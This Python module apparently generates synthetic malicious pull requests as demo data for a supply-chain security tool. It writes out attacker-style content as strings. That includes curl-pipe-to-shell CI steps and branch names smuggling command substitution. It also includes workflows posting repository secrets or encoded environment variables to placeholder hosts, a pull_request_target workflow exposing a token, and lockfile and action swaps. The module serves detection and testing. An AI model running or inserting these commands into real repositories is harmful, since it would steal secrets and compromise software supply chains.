"""Anomaly archetypes for the demo data: supply-chain attacks seen in the wild, kept small and plausible."""
from __future__ import annotations

import dataclasses
import hashlib
import random

from prguard.demo import repos as R
from prguard.demo.shapes import Author


@dataclasses.dataclass(frozen=True)
class Anomaly:
    archetype: str
    author: Author
    kind: str  # the ordinary kind it pretends to be (drives title, labels)
    files: list[dict]
    title: str | None = None
    head_ref: str | None = None
    body: str | None = None


def _stranger(rng: random.Random, association: str | None = None) -> Author:
    login = f"{rng.choice(R.WORDS)}-{rng.choice(('bot', 'dev', 'ops', 'sec'))}{rng.randint(10, 99999)}"
    association = association or rng.choice(("FIRST_TIME_CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR", "NONE",
                                             "FIRST_TIMER"))
    user_id = rng.randint(150_000_000, 199_000_000)  # recently created accounts have high ids
    return Author(login, association, rng.choice((-5, 0, 3, 8)), user_id, fork=True)


def _item(path: str, status: str, adds: int, dels: int, patch: str | None) -> dict:
    item = {"sha": hashlib.sha1(f"{path}:{adds}:{dels}".encode()).hexdigest(), "filename": path,
            "status": status, "additions": adds, "deletions": dels, "changes": adds + dels}
    if patch is not None:
        item["patch"] = patch
    return item


def workflow_curl_pipe_shell(repo, rng: random.Random) -> Anomaly:
    """A newcomer 'fixes CI' by piping a script from an unknown host into bash (runs with repo secrets)."""
    host = rng.choice(R.EVIL_HOSTS)
    patch = ("@@ -14,6 +14,8 @@ jobs:\n       - uses: actions/checkout@v4\n"
             f"+      - name: Warm cache\n+        run: curl -sSL https://{host}/setup.sh | bash\n"
             "       - run: make test")
    files = [_item(rng.choice(repo.tree.workflows), "modified", 2, 0, patch)]
    if rng.random() < 0.5:
        files.append(_item(repo.tree.docs[0], "modified", 1, 1, "@@ -1,3 +1,3 @@\n-Build\n+Build status"))
    return Anomaly("workflow_curl_pipe_shell", _stranger(rng), "ci", files,
                   title=rng.choice(("ci: speed up cache restore", "Fix flaky CI", "ci: warm cache")))


def binary_blob_in_tests(repo, rng: random.Random) -> Anomaly:
    """xz-style: opaque 'test fixtures' plus a small build tweak, from someone who has contributed before."""
    stem = rng.choice(("bad", "corrupt", "good-large", "truncated"))
    files = [_item(f"tests/files/{stem}-{n}-{rng.choice(R.WORDS)}.{rng.choice(('xz', 'lzma', 'bin'))}",
                   "added", 0, 0, None) for n in range(rng.randint(1, 3))]
    if rng.random() < 0.6:
        files.append(_item(rng.choice(repo.tree.build), "modified", rng.randint(2, 9), rng.randint(0, 3),
                           "@@ -40,3 +40,5 @@\n+\tsed -i 's/x/y/' $(srcdir)/tests/files/*\n"
                           "+\t$(MAKE) check-fixtures"))
    author = repo.contributors[0] if repo.contributors and rng.random() < 0.5 else _stranger(rng)
    return Anomaly("binary_blob_in_tests", author, "fixture", files,
                   title=rng.choice(("Add test files for corrupted archives", "tests: add fixtures")))


def lockfile_only_change(repo, rng: random.Random) -> Anomaly:
    """Lockfile rewritten (e.g. 'resolved' URLs to another registry) while the manifest stays the same."""
    _, lock = rng.choice(repo.tree.deps)
    adds = rng.randint(4, 300)
    patch = ('@@ -812,7 +812,7 @@\n'
             '-      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",\n'
             f'+      "resolved": "https://{rng.choice(R.EVIL_HOSTS)}/left-pad-1.3.0.tgz",')
    return Anomaly("lockfile_only_change", _stranger(rng), "deps",
                   [_item(lock, "modified", adds, adds - rng.randint(0, min(adds, 5)), patch)],
                   title=rng.choice(("chore: update lockfile", "Fix lockfile", "chore(deps): refresh lock")))


def mass_deletion(repo, rng: random.Random) -> Anomaly:
    """Hundreds of files removed by someone without a track record."""
    pool = list(repo.tree.code + repo.tree.tests + repo.tree.docs)
    count = rng.randint(120, 900)
    files = [_item(pool[i % len(pool)] if i < len(pool) else f"{pool[i % len(pool)]}.{i}", "removed", 0,
                   rng.randint(5, 400), "@@ -1,3 +0,0 @@\n-removed") for i in range(count)]
    return Anomaly("mass_deletion", _stranger(rng), "cleanup", files, body="" if rng.random() < 0.7 else None,
                   title=rng.choice(("Cleanup", "Remove unused files", "update")))


def branch_command_substitution(repo, rng: random.Random) -> Anomaly:
    """A branch name (or title) built to run in any workflow that interpolates it into a shell step."""
    host = rng.choice(R.EVIL_HOSTS)
    ref = rng.choice((f"fix/$(curl${{IFS}}-sSfL${{IFS}}{host}/p|sh)",
                      f"docs/`wget${{IFS}}-qO-${{IFS}}{host}|bash`",
                      f'update";curl${{IFS}}{host}/x|sh;"'))
    title = f"Fix typo $(curl -s {host}/t | sh)" if rng.random() < 0.3 else "Fix typo in README"
    path = repo.tree.docs[0]
    return Anomaly("branch_command_substitution", _stranger(rng), "docs",
                   [_item(path, "modified", 1, 1, "@@ -3,3 +3,3 @@\n-teh\n+the")], title=title, head_ref=ref)


def new_workflow(path: str, text: str) -> dict:
    lines = text.rstrip("\n").split("\n")
    patch = f"@@ -0,0 +1,{len(lines)} @@\n" + "\n".join(f"+{x}" for x in lines)
    return _item(path, "added", len(lines), 0, patch)


def pwn_request_workflow(repo, rng: random.Random) -> Anomaly:
    """spotbugs/tj-actions: a 'preview' workflow on pull_request_target that builds the PR's own head."""
    ref = rng.choice(("${{ github.event.pull_request.head.sha }}",
                      "${{ github.event.pull_request.head.ref }}"))
    build = rng.choice(("npm ci && npm run build", "make preview", "pip install -e . && pytest -q"))
    text = ("name: Preview\non:\n  pull_request_target:\n    types: [opened, synchronize]\njobs:\n"
            "  preview:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            f"        with:\n          ref: {ref}\n      - run: {build}\n        env:\n"
            "          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n")
    name = rng.choice(("preview.yml", "pr-build.yml", "deploy-preview.yml"))
    return Anomaly("pwn_request_workflow", _stranger(rng), "ci",
                   [new_workflow(f".github/workflows/{name}", text)],
                   title=rng.choice(("ci: add preview builds for PRs", "Add PR preview workflow")))


def secret_exfiltration_workflow(repo, rng: random.Random) -> Anomaly:
    """GhostAction/Shai-Hulud: a new workflow posting repository secrets to an outside host."""
    host = rng.choice(R.EVIL_HOSTS)
    secret = rng.choice(("NPM_TOKEN", "PYPI_API_TOKEN", "AWS_SECRET_ACCESS_KEY", "DOCKERHUB_TOKEN"))
    send = rng.choice((f'curl -s -X POST -d "t=${{{{ secrets.{secret} }}}}" https://{host}/c',
                       f'wget -q --post-data "k=$TOKEN" https://{host}/u',
                       f"curl -sf https://{host}/m -d \"$(env | base64 -w0)\""))
    text = ("name: Security scan\non:\n  push:\n  workflow_dispatch:\njobs:\n  scan:\n"
            "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            f"      - name: Report\n        run: |\n          echo scanning\n          {send}\n        env:\n"
            f"          TOKEN: ${{{{ secrets.{secret} }}}}\n")
    return Anomaly("secret_exfiltration_workflow", _stranger(rng, "CONTRIBUTOR"), "ci",
                   [new_workflow(".github/workflows/security-scan.yml", text)],
                   title=rng.choice(("Add security scan workflow", "ci: add weekly scan")))


def action_swapped_for_a_fork(repo, rng: random.Random) -> Anomaly:
    """tj-actions/Trivy: a pinned action replaced by a look-alike owner's copy on a mutable tag."""
    action, sha = rng.choice((("actions/checkout", "b4ffde65f46336ab88eb53be808477a3936bae11"),
                              ("actions/setup-node", "60edb5dd545a775178f52524783378180af0d1f8"),
                              ("docker/login-action", "9780b0c442fbb1117ed29e0efdff1e18412f7567")))
    owner, name = action.split("/")
    fork = rng.choice((f"{owner}-org", f"{owner}x", f"{owner}-ci"))
    patch = (f"@@ -18,3 +18,3 @@ jobs:\n     steps:\n-      - uses: {action}@{sha} # v4\n"
             f"+      - uses: {fork}/{name}@v4\n       - run: make test")
    return Anomaly("action_swapped_for_a_fork", _stranger(rng, "CONTRIBUTOR"), "ci",
                   [_item(rng.choice(repo.tree.workflows), "modified", 1, 1, patch)],
                   title=rng.choice(("ci: use maintained fork of the action", "ci: fix action")))


ARCHETYPES = (workflow_curl_pipe_shell, binary_blob_in_tests, lockfile_only_change, mass_deletion,
              branch_command_substitution, pwn_request_workflow, secret_exfiltration_workflow,
              action_swapped_for_a_fork)
